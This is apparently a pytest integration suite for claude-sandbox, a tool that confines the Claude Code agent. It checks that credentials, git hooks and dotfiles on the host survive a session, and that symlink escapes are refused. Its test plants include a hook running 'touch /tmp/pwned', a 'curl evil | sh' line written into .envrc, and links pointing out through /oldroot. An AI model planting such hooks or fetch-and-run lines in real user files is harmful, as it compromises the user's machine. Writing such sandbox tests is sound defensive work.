"""Nothing written inside comes back out: the state store and the workspace's control files.

Real launches through the installed shim, as root and as an unprivileged user.
Each test asserts what a user relies on: the outer file is unchanged, the
login is found inside, the plant is not on disk outside.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import tempfile
from collections.abc import Iterator

import pytest

from .conftest import Launcher

pytestmark = pytest.mark.integration


def _store(launcher: Launcher, agent: str = "claude") -> str:
    return os.path.join(launcher.home, ".local/state/claude-sandbox", agent)


@pytest.fixture
def fresh_store(launcher: Launcher) -> Iterator[str]:
    """The launching user's claude store removed before and after: a first launch each time."""
    store = _store(launcher)
    shutil.rmtree(store, ignore_errors=True)
    yield store
    shutil.rmtree(store, ignore_errors=True)


@pytest.fixture
def outer_login(launcher: Launcher) -> Iterator[dict[str, str]]:
    """An existing Claude Code login and settings in the user's real home."""
    files = {
        ".claude/.credentials.json": json.dumps({"claudeAiOauth": {"accessToken": "tok"}}),
        ".claude/settings.json": json.dumps({"model": "sonnet"}),
        ".claude.json": json.dumps({"oauthAccount": {"emailAddress": "u@example.com"}}),
    }
    saved = {}
    for relative, text in files.items():
        path = os.path.join(launcher.home, relative)
        saved[path] = open(path).read() if os.path.exists(path) else None  # noqa: SIM115
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as handle:
            handle.write(text)
        os.chown(path, launcher.uid, launcher.uid)
        os.chown(os.path.dirname(path), launcher.uid, launcher.uid)
    yield {os.path.join(launcher.home, k): v for k, v in files.items()}
    for path, text in saved.items():
        if text is None:
            os.unlink(path)
        else:
            with open(path, "w") as handle:
                handle.write(text)


def test_a_login_is_found_inside_and_writes_stay_in_the_store(
    launcher: Launcher, fresh_store: str, outer_login: dict[str, str]
) -> None:
    home = launcher.home
    plant = json.dumps({"hooks": {"SessionStart": [{"hooks": [
        {"type": "command", "command": "touch /tmp/pwned"}]}]}, "env": {"CLAUDE_CODE_SIMPLE": "1"}})
    script = (
        f"cat {home}/.claude/.credentials.json {home}/.claude.json && "
        f"printf '%s' '{plant}' > {home}/.claude/settings.json && "
        f"mkdir -p {home}/.cache/uv {home}/.local/share/uv/tools/x/bin && "
        f"echo poisoned > {home}/.cache/uv/wheel && "
        f"echo '#!/bin/sh' > {home}/.local/share/uv/tools/x/bin/x && "
        f"mkdir -p {home}/.codex {home}/.pi/agent/extensions && "
        f"echo '[mcp_servers.x]' > {home}/.codex/config.toml && "
        f"echo 'export default 1' > {home}/.pi/agent/extensions/x.ts && echo done"
    )
    result = launcher.shell("/bin/sh", "-c", script)
    assert result.returncode == 0, result.stderr
    assert '"accessToken": "tok"' in result.stdout and "u@example.com" in result.stdout
    assert "state: copied" in result.stderr  # the first launch says what it imported
    # Outside: the real files are as they were, and nothing new exists.
    for path, text in outer_login.items():
        with open(path) as handle:
            assert handle.read() == text, path
    for relative in (".cache/uv/wheel", ".local/share/uv/tools/x", ".codex/config.toml",
                     ".pi/agent/extensions/x.ts"):
        assert not os.path.exists(os.path.join(home, relative)), relative
    # The store kept them: the next session sees its own settings, and no new import.
    again = launcher.shell("/bin/sh", "-c", f"cat {home}/.claude/settings.json")
    assert "CLAUDE_CODE_SIMPLE" in again.stdout and "state: copied" not in again.stderr
    store_home = os.path.join(fresh_store, "home")
    assert os.stat(store_home).st_uid == launcher.uid
    assert oct(os.stat(os.path.dirname(fresh_store)).st_mode & 0o777) == "0o700"


def test_state_import_and_reset(launcher: Launcher, fresh_store: str,
                                outer_login: dict[str, str]) -> None:
    cli = "/usr/local/bin/claude-sandbox"
    shown = launcher.run([cli, "state"])
    assert shown.returncode == 0 and "not made yet" in shown.stdout
    assert launcher.run([cli, "state", "import"]).returncode == 0
    assert os.path.exists(os.path.join(fresh_store, "home/.claude/.credentials.json"))
    refused = launcher.run([cli, "state", "reset"])
    assert refused.returncode == 64 and "--yes" in refused.stderr
    assert launcher.run([cli, "state", "reset", "--yes"]).returncode == 0
    assert not os.path.exists(fresh_store)



@pytest.mark.parametrize("plant", ["leaf", "above"])
def test_a_link_left_in_the_store_is_not_followed_by_the_next_launch(
        launcher: Launcher, fresh_store: str, plant: str) -> None:
    """A link in the store where the sandbox mounts the agent's ~/.local/bin/claude: at it
    (`leaf`), or at ~/.local above it (`above`), leading out through /oldroot, where bwrap
    still sees the host. A session cannot put it there itself: every directory above a
    mount point is pinned, and renaming ~/.local fails. So it is left from outside, as a
    session whose plan mounted nothing there could have. The next launch refuses, and
    nothing is made where the link leads (check 105)."""
    target = tempfile.mkdtemp(prefix="csbx-test-mountpoint-", dir="/var/tmp")
    os.chown(target, launcher.uid, launcher.uid)
    home = launcher.home
    try:
        pinned = launcher.shell("/bin/sh", "-c", f"mv {home}/.local {home}/.local.moved")
        assert pinned.returncode != 0 and "busy" in pinned.stderr, pinned.stderr
        local = os.path.join(fresh_store, "home", ".local")
        os.rename(local, local + ".moved")
        if plant == "leaf":
            os.makedirs(os.path.join(local, "bin"))
            for directory in (local, os.path.join(local, "bin")):
                os.chown(directory, launcher.uid, launcher.uid)
            os.symlink(f"/oldroot{target}/made", os.path.join(local, "bin", "claude"))
            os.lchown(os.path.join(local, "bin", "claude"), launcher.uid, launcher.uid)
        else:
            os.symlink(f"/oldroot{target}", local)
            os.lchown(local, launcher.uid, launcher.uid)
        refused = launcher.shell("/bin/true")
        assert refused.returncode == 77, refused.stderr
        assert "state store is a symbolic link" in refused.stderr
        assert "Traceback" not in refused.stderr
        assert os.listdir(target) == []
    finally:
        shutil.rmtree(target, ignore_errors=True)

def _git(launcher: Launcher, *argv: str) -> None:
    subprocess.run(["git", "-c", "safe.directory=*", "-C", launcher.workspace, *argv],
                   check=True, capture_output=True)


def test_control_files_stay_the_users_and_git_still_commits(launcher: Launcher) -> None:
    """Existing control paths are held (a directory is the agent's own copy, a file is
    read-only); git's directory is an overlay whose hooks and config plants never land;
    absent control paths are not held, and the session-end report names them (ADR 0010)."""
    _git(launcher, "init", "-q")
    os.makedirs(os.path.join(launcher.workspace, ".vscode"))
    with open(os.path.join(launcher.workspace, ".envrc"), "w") as handle:
        handle.write("# the user's\n")
    subprocess.run(["chown", "-R", f"{launcher.uid}:{launcher.uid}", launcher.workspace],
                   check=True)
    attempts = " ; ".join(
        f"(echo x >> {path} && echo WROTE {path})" for path in (
            ".git/hooks/pre-commit", ".git/config", ".vscode/tasks.json", ".envrc",
            ".mcp.json"))
    script = (f"{attempts} ; (mv .git .git-old && echo MOVED) ; "
              "echo hi > file && git add file && git commit -qm first && git log --oneline")
    result = launcher.shell("/bin/sh", "-c", script)
    assert "first" in result.stdout, result.stderr
    assert "MOVED" not in result.stdout and "WROTE .envrc" not in result.stdout
    # Outside: the plants in .git did not land, the held paths are the user's.
    workspace = launcher.workspace
    assert not os.path.exists(os.path.join(workspace, ".git/hooks/pre-commit"))
    with open(os.path.join(workspace, ".git/config")) as handle:
        assert "x" not in handle.read().split()
    assert os.listdir(os.path.join(workspace, ".vscode")) == []
    with open(os.path.join(workspace, ".envrc")) as handle:
        assert handle.read() == "# the user's\n"
    # Absent, so not held: the agent's own copy, moved into the store when it ended.
    assert "control path" in result.stderr and ".mcp.json: moved to" in result.stderr
    assert not os.path.exists(os.path.join(workspace, ".mcp.json"))
    log = subprocess.run(["git", "-c", "safe.directory=*", "-C", workspace, "log",
                          "--oneline"], capture_output=True, text=True, check=True)
    assert "first" in log.stdout


def test_linked_control_paths_are_held_through_their_targets(launcher: Launcher) -> None:
    """Dotfile managers link .envrc and .claude: a link staying inside the workspace is
    followed (its target held as the path would be), and one the session replaces is
    put back at the end, with what stood there moved into the store."""
    workspace = launcher.workspace
    dot = os.path.join(workspace, "dot")
    os.makedirs(os.path.join(dot, "claude"))
    with open(os.path.join(dot, "envrc"), "w") as handle:
        handle.write("# the user's\n")
    os.symlink("dot/envrc", os.path.join(workspace, ".envrc"))
    os.symlink("dot/claude", os.path.join(workspace, ".claude"))
    subprocess.run(["chown", "-hR", f"{launcher.uid}:{launcher.uid}", workspace], check=True)
    script = ("(echo x >> .envrc && echo WROTE-ENVRC) ; (echo x >> dot/envrc && echo WROTE-DOT) ;"
              " echo '{\"hooks\": 1}' > .claude/settings.json && echo COPY ;"
              " (mv dot dot2 && echo MOVED) ; rm .envrc && echo 'curl evil | sh' > .envrc")
    result = launcher.shell("/bin/sh", "-c", script)
    assert "WROTE" not in result.stdout and "MOVED" not in result.stdout, result.stdout
    assert "COPY" in result.stdout, result.stderr  # the agent's own copy, as for a real .claude
    assert os.readlink(os.path.join(workspace, ".envrc")) == "dot/envrc"
    with open(os.path.join(dot, "envrc")) as handle:
        assert handle.read() == "# the user's\n"
    assert os.listdir(os.path.join(dot, "claude")) == []
    assert "the session replaced the link" in result.stderr, result.stderr
    moved = result.stderr.split("what stood there is in ")[1].split()[0]
    with open(moved) as handle:
        assert "evil" in handle.read()  # kept for the user, out of the workspace


def test_what_a_link_in_a_held_directory_names_is_read_only(launcher: Launcher) -> None:
    """.vscode is a view, and its tasks.json a link to conf/tasks.json: the agent must
    not write conf/tasks.json, which VS Code outside runs through the link."""
    workspace = launcher.workspace
    os.makedirs(os.path.join(workspace, ".vscode"))
    os.makedirs(os.path.join(workspace, "conf"))
    with open(os.path.join(workspace, "conf", "tasks.json"), "w") as handle:
        handle.write("{}\n")
    os.symlink("../conf/tasks.json", os.path.join(workspace, ".vscode", "tasks.json"))
    subprocess.run(["chown", "-hR", f"{launcher.uid}:{launcher.uid}", workspace], check=True)
    result = launcher.shell("/bin/sh", "-c", "(echo x >> conf/tasks.json && echo WROTE) ;"
                            " (echo x >> .vscode/tasks.json && echo THROUGH) ; echo done")
    assert "done" in result.stdout, result.stderr
    assert "WROTE" not in result.stdout and "THROUGH" not in result.stdout, result.stdout
    with open(os.path.join(workspace, "conf", "tasks.json")) as handle:
        assert handle.read() == "{}\n"


def test_a_control_link_leaving_the_workspace_refuses_with_what_to_do(
        launcher: Launcher) -> None:
    os.symlink("/etc", os.path.join(launcher.workspace, ".vscode"))
    result = launcher.shell("/bin/true")
    assert result.returncode == 77, result.stderr
    assert "not inside" in result.stderr and "cp -a" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_nested_control_file_is_reported_when_the_session_ends(launcher: Launcher) -> None:
    result = launcher.shell("/bin/sh", "-c", "mkdir -p sub/.claude && echo '{}' > sub/.mcp.json")
    assert result.returncode == 0
    assert "sub/.mcp.json" in result.stderr and "review them" in result.stderr


def test_the_environment_cannot_widen_the_operators_file(launcher: Launcher) -> None:
    ssh = os.path.join(launcher.home, ".ssh")
    base = "env-may-widen = egress-jail\n"
    refused = launcher.shell("/bin/true", env={"CLAUDE_SANDBOX_ALLOW_WRITE": ssh}, config=base)
    assert refused.returncode == 78
    assert refused.stderr.startswith("claude-sandbox: $CLAUDE_SANDBOX_ALLOW_WRITE: ")
    jail = launcher.shell("/bin/true", config="")
    assert jail.returncode == 78 and "$CLAUDE_SANDBOX_EGRESS_JAIL" in jail.stderr
    # Even from the file, a credential directory cannot be made writable.
    listed = launcher.shell("/bin/true", config=base + f"allow-write = {ssh}\n")
    assert listed.returncode == 78 and f"under {ssh}" in listed.stderr
    assert "/etc/claude-sandbox.conf:2" in listed.stderr


def test_a_workspace_under_a_dot_directory_is_refused(launcher: Launcher) -> None:
    dot = os.path.join(launcher.home, ".csbx-dotted")
    inside = os.path.join(dot, "project")
    os.makedirs(inside, exist_ok=True)
    try:
        result = launcher.run(["/usr/local/bin/claude-sandbox", "shell", "--", "/bin/true"],
                              cwd=inside)
        assert result.returncode == 78
        assert "the launch directory" in result.stderr and "Traceback" not in result.stderr
    finally:
        shutil.rmtree(dot)
